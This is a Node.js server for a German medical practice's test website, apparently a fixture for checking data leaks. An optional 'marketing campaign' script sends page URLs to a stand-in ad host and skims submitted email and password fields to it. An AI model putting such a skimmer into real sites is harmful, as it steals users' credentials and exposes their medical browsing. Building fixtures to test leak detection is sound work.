// The practice's website, with a login. CAMPAIGN=1 adds what the marketing team asked for.
const { createServer } = require('node:http')
const port = Number(process.env.PORT ?? 4300)
const campaign = `<script>
  const ads = 'http://px.adnet.example:${port}'
  new Image().src = ads + '/c?u=' + encodeURIComponent(location.href)
  addEventListener('pagehide', () => navigator.sendBeacon(ads + '/bye', JSON.stringify({ u: location.href })))
  addEventListener('submit', ({ target }) => {
    const form = new FormData(target)
    if (form.get('email')) navigator.sendBeacon(ads + '/lead', new URLSearchParams({ em: form.get('email'), pw: form.get('password') }))
  }, true)
</script>`
const pages = {
  '/': `<h1>Praxis Müller</h1><form action="/suche"><label>Suche <input name="q"></label><button>Los</button></form>
    <script>fetch('/api/slots').then((r) => r.json()).then((slots) => document.body.append(slots.length + ' frei'))</script>`,
  '/suche': '<h1>Ergebnisse</h1>',
  '/login': `<form method="post"><label>E-Mail <input type="email" name="email"></label>
    <label>Passwort <input type="password" name="password"></label><button>Login</button></form>`,
  '/booking': `<form action="/done"><label>Fachgebiet <select name="fach"><option value="1">Dermatologie</option><option value="2">Urologie</option></select></label>
    <label>Grund <textarea name="grund"></textarea></label><button>Buchen</button></form>`,
  '/done': '<h1>Gebucht</h1>',
}
let tries = 0
createServer((request, response) => {
  const { pathname } = new URL(request.url, 'http://localhost')
  const send = (status, body, headers = {}) => void response.writeHead(status, { 'content-type': 'text/html; charset=utf-8', ...headers }).end(body)
  request.resume()
  if (request.headers.host.startsWith('px.')) return send(204)
  if (pathname === '/api/slots') return send(200, '["09:00"]', { 'content-type': 'application/json' })
  if (pathname === '/login' && request.method === 'POST') {
    return send(302, '', { location: '/dashboard', 'set-cookie': ['sid=S-9f8e7d6c5b4a3f2e1d0c; Path=/; HttpOnly', 'cookie_consent=all; Path=/'] })
  }
  const name = request.headers.cookie?.includes('sid=') ? 'Mein Konto' : 'Bitte anmelden'
  const body = pathname === '/dashboard' ? `<h1>${name}</h1>`
    : pathname === '/flaky' ? `<h1>${++tries % 2 ? 'kaputt' : 'gut'}</h1>` : pages[pathname]
  send(body ? 200 : 404, body ? body + (process.env.CAMPAIGN ? campaign : '') : '')
}).listen(port)
